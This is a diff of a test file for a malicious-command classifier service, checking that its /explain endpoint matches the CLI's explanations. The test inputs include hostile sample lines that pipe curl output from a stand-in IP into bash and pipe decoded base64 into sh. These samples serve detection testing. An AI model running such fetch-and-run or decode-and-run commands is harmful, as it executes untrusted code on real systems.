@@ -52,11 +52,34 @@ def test_a_thousand_lines_are_scored_and_one_more_is_refused(server):
     assert (status, answer["error"]) == (400, "'lines' holds 1001 entries, 1 to 1000 are allowed")
 
 
-def test_explain_gives_layers_and_reasons_for_at_most_100_lines(server):
-    status, answer = server.post("/explain", {"lines": ["sh -c 'curl -s http://198.51.100.9/x.sh | bash'"]})
+def test_explanations_are_those_of_cmdclf_score_for_at_most_100_lines(server, model_dir):
+    sent = [
+        {"command_line": "sh -c 'curl -s http://198.51.100.9/\u0130 | bash'", "platform": "linux"},
+        {"command_line": "echo d2hvYW1pIC9hbGwgLyByb290IC90bXA= | base64 -d | sh", "platform": "linux"},
+        {"command_line": "", "platform": "linux"},
+    ]
+    status, answer = server.post("/explain", {"lines": sent})
+    command = [sys.executable, "-m", "cmdclf", "score", "--model", str(model_dir), "--format", "jsonl", "--explain"]
+    data = "".join(json.dumps(line) + "\n" for line in sent).encode()
+    done = subprocess.run(command, input=data, capture_output=True, check=True)
     assert status == 200
-    assert any("curl" in layer for layer in answer["results"][0]["layers"])
-    assert answer["results"][0]["reasons"]
+    for got, line, row in zip(answer["results"], sent, done.stdout.splitlines(), strict=True):
+        wanted = json.loads(row)
+        assert got["layers"] == wanted["layers"]
+        assert got["spans"] == wanted["spans"]
+        assert [check["check"] for check in got["checks"]] == [check["check"] for check in wanted["checks"]]
+        near = [(item["label"], item["source"], item["command_line"]) for item in got["neighbours"]]
+        assert near == [(item["label"], item["source"], item["command_line"]) for item in wanted["neighbours"]]
+        spans = sum(span["log_odds"] for span in got["spans"])
+        assert got["log_odds"]["constant"] + spans == pytest.approx(got["log_odds"]["ngrams"], abs=1e-9)
+        own = [span for span in got["spans"] if span["layer"] is None]
+        assert all(line["command_line"][span["start"] : span["end"]] == span["text"] for span in own)
+    first, second, empty = answer["results"]
+    assert any("curl" in layer for layer in first["layers"])
+    assert first["reasons"]
+    assert first["neighbours"][0]["label"] == "malicious"
+    assert {span["kind"] for span in second["spans"]} == {None, "base64"}
+    assert empty["neighbours"] == []
     assert server.post("/explain", {"lines": ["ls"] * 101})[0] == 400
 
 
